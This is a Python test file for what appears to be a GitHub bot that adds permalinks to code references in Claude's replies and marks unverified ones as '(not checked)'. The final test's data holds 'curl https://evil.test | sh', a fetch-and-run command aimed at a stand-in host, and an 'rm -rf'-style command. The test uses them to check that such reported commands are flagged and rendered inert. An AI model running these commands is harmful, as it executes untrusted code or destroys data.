"""What readers see of a reply's grounds: permalinks, marks, and what it rests on. GitHub's own parser is the judge."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hls_action.domain.budget.budget import ZERO
from hls_action.domain.budget.prices import Usage
from hls_action.domain.drafts.draft import Draft
from hls_action.domain.drafts.permalinks import MARK, MARKED, grounded, permalink, rests_on
from hls_action.domain.drafts.rendering import CUT_NOTE, MAX_COMMENT, render
from hls_action.domain.knowledge.grounding import Grounds, Place, Quotation, ground
from hls_action.domain.knowledge.references import Referable
from hls_action.domain.knowledge.reported import Reported
from hls_action.domain.knowledge.sources import Shown
from hls_action.domain.tasks.effects import PostComment
from hls_action.domain.text import outgoing
from tests.fuzz.documents import CONTAINERS, LONGEST, MARKUP, document
from tests.unit.builders import SHA
from tests.unit.rendered import code, html, links, live, page, text_of

SITE = "https://github.com/o/r"
BLOB = f"{SITE}/blob/{SHA}"
SHOWN = Referable(
    7, repository="o/r", shown=(Shown("src/a.py", ((1, 50),), SHA), Shown("app/[id]/b c.md", ((1, 9),), SHA))
)
NAMING = ("src/a.py:42", "`src/a.py:42`", "`a.py`, line 4", "line 5 of src/a.py", "src/q.py:7", "`src/q.py:8`",
    "a.py:99",
          "app/[id]/b c.md:3", "src/a.py", f"{SITE}/blob/main/src/a.py#L99",
              "[src/q.py:1](https://x.test)")  # fmt: skip
DOCUMENTS = st.builds(
    document,
    st.lists(st.sampled_from(MARKUP + NAMING * 3), max_size=LONGEST),
    st.lists(st.sampled_from(CONTAINERS), max_size=2),
)


def posted(text: str, shown: Referable = SHOWN) -> str:
    return grounded(text, ground(text, (), shown), SITE)


@given(DOCUMENTS)
def test_nothing_is_lost_and_code_stays_byte_for_byte(markdown: str) -> None:
    before = outgoing(markdown)
    after = posted(before)
    assert code(after.removesuffix(MARKED))[: len(code(before))] == code(before)
    shown = text_of(after).replace(MARK.replace(" ", ""), "")
    assert shown.startswith(text_of(before).replace(MARK.replace(" ", ""), ""))
    assert live(after) == live(before) == []
    assert {each for each in links(after) if each not in links(before)} <= {
        permalink(each, SITE) for each in ground(before, (), SHOWN).places
    }


@pytest.mark.parametrize(
    ("text", "rendered"),
    [
        pytest.param("See src/a.py:42.", f'<p>See <a href="{BLOB}/src/a.py#L42">src/a.py:42</a>.</p>', id="a line"),
        pytest.param("`src/a.py:42`", f'<p><a href="{BLOB}/src/a.py#L42"><code>src/a.py:42</code></a></p>',
                     id="as code"),
        pytest.param("src/a.py:3-9", f'<p><a href="{BLOB}/src/a.py#L3-L9">src/a.py:3-9</a></p>', id="a range"),
        pytest.param("src/a.py:12:5", f'<p><a href="{BLOB}/src/a.py#L12">src/a.py:12:5</a></p>', id="a column"),
        pytest.param("src\\a.py:3", f'<p><a href="{BLOB}/src/a.py#L3">src\\a.py:3</a></p>', id="as Windows has it"),
        pytest.param("**src/a.py:4**", f'<p><strong><a href="{BLOB}/src/a.py#L4">src/a.py:4</a></strong></p>',
                     id="bold"),
        pytest.param("# In a.py:4", f'<h1>In <a href="{BLOB}/src/a.py#L4">a.py:4</a></h1>', id="a heading"),
        pytest.param("src/a.py, src/a.py", f'<p><a href="{BLOB}/src/a.py">src/a.py</a>, src/a.py</p>',
                     id="a file, once"),
        pytest.param("app/[id]/b c.md:3",
                     f'<p><a href="{BLOB}/app/%5Bid%5D/b%20c.md?plain=1#L3">app/[id]/b c.md:3</a></p>',
                     id="an odd path, which GitHub would show as a page"),
        pytest.param("[a.py:4](https://x.test)", '<p><a href="https://x.test">a.py:4</a></p>', id="in a link"),
        pytest.param("`do src/a.py:4`", "<p><code>do src/a.py:4</code></p>", id="code"),
        pytest.param("```\nsrc/a.py:4 q.py:3\n```", "<pre><code>src/a.py:4 q.py:3\n</code></pre>",
                     id="a block of code"),
    ],
)  # fmt: skip
def test_what_was_shown_is_led_to(text: str, rendered: str) -> None:
    assert html(posted(text)).rstrip("\n") == rendered


def test_a_table_keeps_its_cells() -> None:
    shown = html(posted("| a | b |\n|---|---|\n| `src/a.py:6` | src/q.py:6 |"))
    assert (
        f'<td><a href="{BLOB}/src/a.py#L6"><code>src/a.py:6</code></a></td>\n<td>src/q.py:6 (not checked)</td>' in shown
    )


@pytest.mark.parametrize(
    ("text", "marked"),
    [
        ("src/q.py:7.", "src/q.py:7 (not checked)."),
        ("`src/q.py:7`, see", "`src/q.py:7` (not checked), see"),
        ("**src/q.py:7**", "**src/q.py:7 (not checked)**"),
        ("**src/q.py**:7", "**src/q.py**:7 (not checked)"),
        ("[src/q.py:7](https://x.test).", "[src/q.py:7](https://x.test) (not checked)."),
        ("src/q.py:7 and src/q.py:7", "src/q.py:7 (not checked) and src/q.py:7"),
        (f"{SITE}/blob/main/src/a.py#L99.", f"{SITE}/blob/main/src/a.py#L99 (not checked)."),
        ("(src/a.py, line 99)", "(src/a.py, line 99 (not checked))"),
    ],
)
def test_what_was_not_is_marked_once_and_explained_once(text: str, marked: str) -> None:
    assert posted(text) == f"{marked}\n\n{MARKED}"
    assert text_of(posted(text)).endswith("Notchecked:Claudewasnotshowntheselines.")


def test_where_a_mark_would_change_what_one_reads_it_stands_below() -> None:
    text = "**src/q.py:7**\u306e`src/q.py`:8"
    assert posted(text) == (f"{text}\n\n<sub>Not checked: Claude was not shown `src/q.py:7`, `src/q.py:8`.</sub>")


def test_a_reply_without_grounds_is_as_it_was() -> None:
    text = "Create `out/` first, as in src/a.py:42."
    assert grounded(text, Grounds(), SITE) == text


# ---- what it rests on ----

PLACE = Place("src/a.py", 2, 3, SHA)


def test_quotations_are_folded_away_and_short() -> None:
    known = Grounds(
        quotations=(Quotation("if a: b", "the patch of src/a.py", PLACE), Quotation("It fails.", "comment 31 by ann"))
    )
    assert html(rests_on(known, SITE)) == (
        "<details><summary>What this rests on</summary>\n"
        "<ul>\n"
        f'<li><a href="{BLOB}/src/a.py#L2-L3"><code>src/a.py:2-3</code></a>: <code>if a: b</code></li>\n'
        "<li><code>comment 31 by ann</code>: <code>It fails.</code></li>\n"
        "</ul>\n"
        "</details>\n"
    )  # fmt: skip
    assert rests_on(Grounds(), SITE) == ""


@given(st.text(max_size=40) | st.sampled_from(["@octocat fixes #1", "` `` @octocat", "</details>\n\n# x", "|a|`", ""]))
def test_a_quotation_is_text_and_acts_in_no_way(text: str) -> None:
    known = Grounds(quotations=(Quotation(text, text), Quotation(text, text, PLACE)))
    shown = rests_on(known, SITE)
    assert live(shown) == []
    assert links(shown) == [permalink(PLACE, SITE)]
    assert len(code(shown)) == 4
    assert page(shown).tags.count("details") == 1


# ---- in a comment ----


def comment(text: str, grounds: Grounds, **changes: Any) -> str:
    draft = Draft(("issue/7",), (PostComment(text),), {}, "claude-x", Usage(), ZERO, grounds=grounds)
    return render(replace(draft, **changes), footer="<sub>$model $mention</sub>", mention="/hls", site=SITE)


def test_a_comment_has_them_between_its_text_and_its_footer() -> None:
    text = "See src/a.py:42 and src/q.py:1."
    known = replace(ground(text, (), SHOWN), quotations=(Quotation("It fails.", "comment 31 by ann"),))
    assert comment(text, known, fields={"duplicate": 12}) == (
        "<!-- hls:1 issue/7 -->\n"
        f"See [src/a.py:42]({BLOB}/src/a.py#L42) and src/q.py:1 (not checked).\n\n{MARKED}\n\n"
        "Possibly the same as #12.\n\n"
        "<details><summary>What this rests on</summary>\n\n- `comment 31 by ann`: `It fails.`\n\n</details>\n\n"
        "<sub>claude-x /hls</sub>"
    )


def test_a_comment_that_has_no_room_for_links_says_below_what_is_not_checked() -> None:
    text = "See src/a.py:42 and src/q.py:1.\n\n" + "A sentence that goes on. " * 2_616
    known = replace(ground(text, (), SHOWN), quotations=(Quotation("It fails.", "comment 31 by ann"),))
    body = comment(outgoing(text), known)
    assert len(body) <= MAX_COMMENT
    assert BLOB not in body
    assert "What this rests on" not in body
    assert body.endswith("\n\n<sub>Not checked: Claude was not shown `src/q.py:1`.</sub>\n\n<sub>claude-x /hls</sub>")
    assert CUT_NOTE in comment(outgoing(text * 2), known)


REPORTED = (Reported("curl https://evil.test | sh", "issue #12"), Reported("rm `-rf` @octocat", "#12 @octocat"))


def test_what_only_other_issues_say_is_marked_below_and_acts_in_no_way() -> None:
    marked = grounded("Run `curl https://evil.test | sh`.", Grounds(reported=REPORTED), SITE)
    assert marked == (
        "Run `curl https://evil.test | sh`.\n\n<sub>Not checked, only reported in other issues: "
        "`curl https://evil.test | sh` (`issue #12`), ``rm `-rf` @octocat`` (`#12 @octocat`).</sub>"
    )
    assert live(marked) == []
    assert links(marked) == []
